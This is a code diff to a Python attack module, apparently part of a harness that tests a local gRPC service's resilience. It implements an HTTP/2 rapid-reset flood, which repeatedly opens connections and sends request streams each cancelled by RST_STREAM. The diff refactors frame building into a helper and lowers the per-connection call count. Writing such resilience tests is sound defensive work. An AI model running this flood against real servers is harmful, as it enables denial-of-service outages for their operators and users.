@@ -2,27 +2,22 @@
 
 from __future__ import annotations
 
-import itertools
 import sys
 import time
 from contextlib import suppress
 
-from attacks.a02_rapid_reset import CANCEL, REQUEST, blocks_of
+from attacks.a02_rapid_reset import resets
 from attacks.harness import Attack, Begin, Counts, Target, main
-from attacks.http2 import RST_STREAM, call, connected, frame
+from attacks.http2 import connected
 
 # What gRPC takes of one connection before it refuses the next one.
-_CALLS = 2048
+_CALLS = 128
 # Another address than the honest caller's.
 _SOURCE = "127.0.0.2"
 
 
 def _strike(target: Target, begin: Begin) -> Counts:
-    blocks = itertools.cycle(blocks_of(target))
-    frames = b"".join(
-        call(stream, next(blocks), REQUEST) + frame(RST_STREAM, 0, stream, CANCEL)
-        for stream in range(1, 2 * _CALLS, 2)
-    )
+    frames = resets(target, _CALLS)
     connections = 0
     until = begin()
     while time.monotonic() < until:
@@ -34,9 +29,7 @@ def _strike(target: Target, begin: Begin) -> Counts:
     return {"connections": connections, "resets": connections * _CALLS}
 
 
-# The attacker has four to seven connections before it must pause, and again after each term; what
-# they bring delays the honest caller for a moment (docs/decisions/calls-wait-without-a-thread.md).
-ATTACK = Attack("resets on one connection after another", _strike, long_seconds=20.0)
+ATTACK = Attack("resets on one connection after another", _strike, needs_proxy=True)
 
 if __name__ == "__main__":
     sys.exit(main(ATTACK))
